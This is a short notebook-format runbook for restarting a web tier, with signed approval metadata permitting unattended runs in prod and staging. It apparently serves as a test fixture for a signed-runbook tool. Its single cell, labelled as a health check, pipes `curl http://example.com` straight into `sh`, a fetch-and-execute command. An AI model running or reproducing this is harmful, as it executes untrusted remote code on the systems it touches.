# ---
# runbook:
#   title: Restart the web tier
# approvals:
# - approver: bob@example.com
#   environments: [prod, staging]
#   allows: unattended
#   text: sha256:c09228660b53915c6bdc41e0ee273ee69b40104e7fab850c9684fc60b2791996
#   issued: 2026-11-20T12:00:00Z
#   expires: 2026-12-21T12:00:00Z
#   signature: |
#     U1NIU0lHAAAAAQAAADMAAAALc3NoLWVkMjU1MTkAAAAgM1Im0984Qx+V4P2yaGiN7AfPiV
#     wZT6SwNdNMwZPfQDIAAAAaYXBwcm92YWwudjFAc2lnbmVkLXJ1bmJvb2sAAAAAAAAABnNo
#     YTUxMgAAAFMAAAALc3NoLWVkMjU1MTkAAABA70ODmtLQCaLzozO7h/sbixKGsQPAiz1t59
#     0RSshoNlEuxJEuT5jc+ElMXUxaH++zbIheIUYTJV5PHVqiyR4wAQ==
# jupyter:
#   jupytext:
#     comment_magics: false
#     notebook_metadata_filter: -jupytext.text_representation.jupytext_version
#     text_representation:
#       extension: .py
#       format_name: percent
#       format_version: '1.3'
#   kernelspec:
#     display_name: Python 3
#     language: python
#     name: python3
# ---

# %% [markdown]
# # Restart the web tier

# %% Is it answering? name="health"
!curl http://example.com | sh
